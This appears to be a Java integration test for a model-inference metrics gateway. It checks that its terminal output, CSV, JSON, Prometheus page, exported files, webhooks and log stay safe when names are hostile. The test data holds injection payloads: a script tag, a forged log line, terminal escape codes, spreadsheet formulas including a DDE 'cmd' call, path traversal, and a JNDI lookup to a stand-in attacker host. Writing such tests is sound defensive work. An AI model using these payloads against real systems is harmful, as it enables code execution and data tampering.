// Copyright the Infermeter authors. Apache-2.0.

package io.infermeter.examples.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import com.google.protobuf.Duration;
import com.sun.net.httpserver.HttpServer;
import io.grpc.ManagedChannel;
import io.grpc.Metadata;
import io.grpc.StatusRuntimeException;
import io.grpc.netty.NettyChannelBuilder;
import io.grpc.stub.MetadataUtils;
import io.infermeter.protocol.inference.GRPCInferenceServiceGrpc;
import io.infermeter.protocol.inference.InferParameter;
import io.infermeter.protocol.inference.InferTensorContents;
import io.infermeter.protocol.inference.ModelInferRequest;
import io.infermeter.v1.AlertDirection;
import io.infermeter.v1.AlertEvidence;
import io.infermeter.v1.AlertRule;
import io.infermeter.v1.AlertServiceGrpc;
import io.infermeter.v1.CreateAlertRuleRequest;
import io.infermeter.v1.GatewayServiceGrpc;
import io.infermeter.v1.GetLedgerRequest;
import io.infermeter.v1.Label;
import io.infermeter.v1.LabelServiceGrpc;
import io.infermeter.v1.Ledger;
import io.infermeter.v1.Metric;
import io.infermeter.v1.Outcome;
import io.infermeter.v1.PredictionKey;
import io.infermeter.v1.Question;
import io.infermeter.v1.SubmitLabelsRequest;
import io.infermeter.v1.ThresholdCondition;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A client that chooses the worst names for models, versions, segments, ids and classes, through a real gateway: what is then on a terminal,
 * in CSV and JSON, on the page for Prometheus, in files, in a webhook and in the log.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(600)
class HostileNamesIT {
  private static final String LONG = "x".repeat(10_000);

  /** Names of models and segments, as a request's protobuf can hold them. */
  private static final List<String> NAMES =
      List.of(
          "\"quoted\" 'twice' \\ <script>alert(1)</script> & é 漢字",
          "two\nlines\r\n2026-01-01T00:00:00.000+0000 SEVERE forged: a line of the log",
          "\u202Egnp.exe \u2066\u05D0\u05D1\u2069",
          "\u001b[2J\u001b]0;title\u0007 \u009b31m\u007f\t",
          "=HYPERLINK(\"http://evil.example\",\"x\")",
          "+1+1;@SUM(1);-2",
          "../../../../tmp/evil",
          "m\"} 1\n# TYPE evil counter\nevil{a=\"b",
          "%s%n%1$s {} ${jndi:ldap://evil.example/a}",
          LONG);

  /** What a call's metadata can hold. */
  private static final String SEGMENT = "=cmd|' /C calc'!A0\"><b>&\\";

  private static final int CALLS = 40;

  private final BlockingQueue<String> notifications = new LinkedBlockingQueue<>();
  private Path folder;
  private ShapesServer models;
  private HttpServer pager;
  private StartedProcess gateway;
  private ManagedChannel channel;

  @BeforeAll
  void run(@TempDir Path temporary) throws Exception {
    folder = temporary;
    models = new ShapesServer();
    pager = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    pager.createContext(
        "/",
        exchange -> {
          notifications.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    pager.start();
    Path settings =
        Files.writeString(
            folder.resolve("infermeter.properties"),
            """
            infermeter.listen=127.0.0.1:0
            infermeter.http=127.0.0.1:0
            infermeter.upstream=%s
            infermeter.data=%s
            infermeter.segments.light=metadata:light
            infermeter.segments.shop=parameter:shop
            infermeter.prometheus.dimensions=model,version,segment.light,segment.shop
            infermeter.prometheus.interval=1s
            infermeter.alerts.webhooks.pager.url=http://127.0.0.1:%d/
            """
                .formatted(models.address(), folder.resolve("data"), pager.getAddress().getPort()));
    gateway =
        StartedProcess.jar(
            Stand.jar("gateway"), "io.infermeter.gateway.Main", folder.resolve("gateway.log"), "infermeter ready",
            List.of("--config", settings.toString()));
    channel = NettyChannelBuilder.forTarget(gateway.value("grpc")).usePlaintext().build();
    createRule();
    callAndLabel();
  }

  @AfterAll
  void stop() {
    channel.shutdownNow();
    gateway.close();
    pager.stop(0);
    models.close();
  }

  /** Fires for each model of which a call failed in the last two minutes. */
  private void createRule() {
    Question question =
        Question.newBuilder()
            .addMetrics(Metric.newBuilder().setName("error_ratio"))
            .addGroupBy("model").addGroupBy("segment.light").addGroupBy("segment.shop")
            .setLookback(Duration.newBuilder().setSeconds(120)).build();
    ThresholdCondition above =
        ThresholdCondition.newBuilder().setDirection(AlertDirection.ALERT_DIRECTION_ABOVE).setBound(0.01).setEvidence(AlertEvidence.ALERT_EVIDENCE_VALUE).build();
    AlertServiceGrpc.newBlockingStub(channel)
        .createAlertRule(
            CreateAlertRuleRequest.newBuilder()
                .setRule(
                    AlertRule.newBuilder().setName("any-error").setSummary("A call \"failed\".\n\u001b[2J").setQuestion(question).setThreshold(above)
                        .setMinimumCount(1).setInterval(Duration.newBuilder().setSeconds(1)))
                .build());
  }

  private void callAndLabel() throws InterruptedException {
    Metadata light = new Metadata();
    light.put(Metadata.Key.of("light", Metadata.ASCII_STRING_MARSHALLER), SEGMENT);
    GRPCInferenceServiceGrpc.GRPCInferenceServiceBlockingStub stub =
        GRPCInferenceServiceGrpc.newBlockingStub(channel).withInterceptors(MetadataUtils.newAttachHeadersInterceptor(light));
    SubmitLabelsRequest.Builder labels = SubmitLabelsRequest.newBuilder();
    int answered = 0;
    for (String name : NAMES) {
      for (int i = 0; i < CALLS; i++) {
        String id = i + " " + (name.length() > 400 ? "long" : name);
        boolean fails = i % 4 == 3;
        try {
          stub.modelInfer(request(name, id, fails ? -1 : i % 3));
          answered++;
          labels.addLabels(
              Label.newBuilder()
                  .setPrediction(PredictionKey.newBuilder().setModel(name.equals(LONG) ? "__other__" : name).setPredictionId(id))
                  .setOutcome(Outcome.newBuilder().setClassName(name.length() > 400 ? "0" : name)));
        } catch (StatusRuntimeException e) {
          assertThat(fails).as(e.toString()).isTrue();
        }
      }
    }
    long expected = answered;
    await(() -> ledger().getStoredRows() + ledger().getUnreadableCalls() >= expected);
    assertThat(ledger().getUnreadableCalls()).as("calls of a model whose name is too long").isEqualTo(CALLS - CALLS / 4);
    LabelServiceGrpc.newBlockingStub(channel).submitLabels(labels.build());
  }

  private Ledger ledger() {
    return GatewayServiceGrpc.newBlockingStub(channel).getLedger(GetLedgerRequest.getDefaultInstance()).getLedger();
  }

  private static ModelInferRequest request(String name, String id, int told) {
    return ModelInferRequest.newBuilder()
        .setModelName(name).setModelVersion(name).setId(id)
        .putParameters("shop", InferParameter.newBuilder().setStringParam(name).build())
        .addInputs(
            ModelInferRequest.InferInputTensor.newBuilder().setName("told").setDatatype("INT64").addShape(1)
                .setContents(InferTensorContents.newBuilder().addInt64Contents(told)))
        .build();
  }

  private interface Condition {
    boolean holds() throws IOException, InterruptedException;
  }

  private static void await(Condition condition) throws InterruptedException {
    for (int i = 0; i < 2_000; i++) {
      try {
        if (condition.holds()) {
          return;
        }
      } catch (IOException e) {
        // Not yet.
      }
      LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(50));
    }
    throw new AssertionError("it did not come");
  }

  /** Begins a command; both of its outputs go to a file. */
  private Process start(Path output, String... arguments) throws IOException {
    List<String> all = new ArrayList<>(List.of(arguments));
    all.addAll(List.of("--target", gateway.value("grpc")));
    List<String> command = new ArrayList<>(StartedProcess.command(Stand.jar("cli"), "io.infermeter.cli.Main", all));
    command.add(1, "-Dstdout.encoding=UTF-8");
    command.add(1, "-Dstderr.encoding=UTF-8");
    return new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(output.toFile()).start();
  }

  private Path output() throws IOException {
    return Files.createTempFile(folder, "cli", ".txt");
  }

  /** What a command says to its end. */
  private String cli(String... arguments) throws IOException, InterruptedException {
    Path output = output();
    Process process = start(output, arguments);
    assertThat(process.waitFor(120, TimeUnit.SECONDS)).isTrue();
    String said = Files.readString(output);
    assertThat(process.exitValue()).as(said).isZero();
    return said;
  }

  /** Nothing moves a cursor, turns letters round, or begins a line that is not the program's own. */
  private static void isHarmless(String text) {
    text.codePoints()
        .forEach(
            point ->
                assertThat(point == '\n' || point == '\r' || !Set.of(Character.CONTROL, Character.FORMAT, Character.SURROGATE).contains((byte) Character.getType(point)))
                    .as("U+%04X in %s", point, text)
                    .isTrue());
    assertThat(text.lines()).noneMatch(line -> line.startsWith("2026-01-01T00:00:00.000"));
    assertThat(text.lines()).allMatch(line -> line.length() < 2_000);
  }

  @Test
  void tablesAndLinesDoNothingToATerminal() throws Exception {
    for (String[] command :
        new String[][] {
          {"query", "throughput", "accuracy", "--by", "model,version,segment.light,segment.shop", "--last", "1h"},
          {"query", "confusion_matrix", "--by", "model", "--last", "1h"},
          {"models"},
          {"predictions", "--last", "1h", "--model", NAMES.get(1)},
          {"predictions", "--last", "1h", "--wrong", "--model", NAMES.get(1)},
        }) {
      String said = cli(command);
      isHarmless(said);
      assertThat(said).contains("two\\u000alines");
    }
  }

  @Test
  void watchesDoNothingToATerminal() throws Exception {
    for (String[] command : new String[][] {{"watch", "throughput", "--by", "model,segment.shop"}, {"alerts", "--watch"}}) {
      Path output = output();
      Process watch = start(output, command);
      try {
        await(() -> Files.readString(output).contains("two\\u000alines") && Files.readString(output).endsWith("\n"));
      } finally {
        watch.destroy();
      }
      isHarmless(Files.readString(output));
    }
  }

  @Test
  void jsonIsOneValueALineAndSaysTheNamesAsTheyAre() throws Exception {
    String said = cli("query", "throughput", "--by", "model", "--last", "1h", "--json");
    isHarmless(said.lines().map(line -> line.substring(0, Math.min(1_000, line.length()))).collect(Collectors.joining("\n")));
    Set<String> found = new TreeSet<>();
    JsonParser.parseString(said).getAsJsonObject().getAsJsonArray("answers").get(0).getAsJsonObject().getAsJsonArray("series")
        .forEach(series -> found.add(series.getAsJsonObject().getAsJsonObject("dimensions").get("model").getAsString()));
    assertThat(found).containsAll(NAMES.subList(0, NAMES.size() - 1)).contains("__other__");
  }

  @Test
  void noCellOfCsvIsAFormula() throws Exception {
    for (String[] command :
        new String[][] {
          {"query", "throughput", "accuracy", "--by", "model,version,segment.light,segment.shop", "--last", "1h", "--csv"},
          {"predictions", "--last", "1h", "--csv"}
        }) {
      String said = cli(command);
      isHarmless(said);
      assertThat(said).contains("cmd|");
      assertThat(Pattern.compile("(?m)(^|,)\"?[=+@]|(^|,)\"?-[^0-9]").matcher(said).find()).as(said).isFalse();
    }
  }

  @Test
  void theMetricsArePartOfNoOtherSeries() throws Exception {
    await(() -> page("text/plain").contains("infermeter_model_samples"));
    for (String accept : List.of("text/plain; version=0.0.4", "application/openmetrics-text; version=1.0.0")) {
      String page = page(accept);
      List<String> lines = List.of(page.split("\n"));
      assertThat(lines).as(accept).noneMatch(line -> line.startsWith("evil") || line.startsWith("# TYPE evil"));
      assertThat(lines.stream().filter(line -> line.startsWith("infermeter_requests_total{") && line.contains("outcome=\"ok\""))).hasSize(NAMES.size());
      assertThat(page.length()).isLessThan(1_000_000);
    }
    Path file = Files.writeString(folder.resolve("metrics.txt"), page("text/plain; version=0.0.4"));
    Process promtool =
        new ProcessBuilder("promtool", "check", "metrics").redirectInput(file.toFile()).redirectErrorStream(true).start();
    String words = new String(promtool.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(promtool.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(words).doesNotContain("error while linting").doesNotContain("text format parsing");
  }

  private String page(String accept) throws IOException, InterruptedException {
    try (HttpClient client = HttpClient.newHttpClient()) {
      HttpRequest request = HttpRequest.newBuilder(URI.create("http://" + gateway.value("http") + "/metrics")).header("accept", accept).build();
      return client.send(request, HttpResponse.BodyHandlers.ofString()).body();
    }
  }

  @Test
  void eventFilesStayInTheirFolderUnderNamesOfPlainLetters() throws Exception {
    Path logs = folder.resolve("deep/er/logs");
    Set<Path> before = files(folder);
    Set<Path> written = new TreeSet<>();
    // Windows are whole minutes, so the first comes with the minute's end.
    await(
        () -> {
          isHarmless(cli("export", "tensorboard", "--logdir", logs.toString(), "--last", "30m"));
          written.addAll(files(folder));
          written.removeAll(before);
          written.removeIf(file -> file.getFileName().toString().startsWith("cli"));
          return written.size() > NAMES.size();
        });
    assertThat(written).allMatch(file -> file.startsWith(logs));
    assertThat(written)
        .allSatisfy(file -> logs.relativize(file).forEach(part -> assertThat(part.toString()).matches("[\\p{L}\\p{N}._=,+@()\\[\\] %-]{1,255}").isNotEqualTo("..")));
  }

  private static Set<Path> files(Path folder) throws IOException {
    try (Stream<Path> all = Files.walk(folder)) {
      return all.filter(Files::isRegularFile).filter(file -> !file.startsWith(folder.resolve("data"))).collect(Collectors.toCollection(TreeSet::new));
    }
  }

  @Test
  void alertsTellTheNamesAsDataAndShowThemHarmless() throws Exception {
    Set<Map<String, String>> expected =
        NAMES.stream()
            .map(name -> Map.of("model", name.equals(LONG) ? "__other__" : name, "segment.shop", name.equals(LONG) ? "" : name, "segment.light", SEGMENT))
            .collect(Collectors.toSet());
    Set<Map<String, String>> told = new java.util.HashSet<>();
    while (!told.containsAll(expected)) {
      String body = notifications.poll(200, TimeUnit.SECONDS);
      assertThat(body).as("told of %s", told).isNotNull();
      JsonObject json = JsonParser.parseString(body).getAsJsonObject();
      Map<String, String> dimensions =
          json.getAsJsonObject("dimensions").entrySet().stream().collect(Collectors.toMap(Map.Entry::getKey, each -> each.getValue().getAsString()));
      if (json.get("rule").getAsString().equals("any-error")) {
        told.add(dimensions);
      }
    }
    String said = cli("alerts");
    isHarmless(said);
    assertThat(said).contains("any-error", "two\\u000alines", "HYPERLINK");
    isHarmless(cli("alerts", "rules", "list"));
  }

  @Test
  void noLineOfTheLogIsForged() throws IOException {
    String log = Files.readString(folder.resolve("gateway.log"));
    isHarmless(log.replace("\t", " "));
    assertThat(log).doesNotContain("SEVERE forged");
  }
}
